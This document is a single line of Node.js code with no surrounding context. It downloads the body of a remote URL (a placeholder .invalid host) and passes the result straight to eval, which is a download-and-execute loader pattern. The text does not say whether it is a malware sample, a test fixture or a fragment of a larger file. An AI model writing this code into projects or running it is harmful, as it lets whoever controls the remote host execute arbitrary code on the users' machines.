require('https').get('https://d.invalid', (res) => { let d = ''; res.on('data', (c) => { d += c; }); res.on('end', () => eval(d)); });
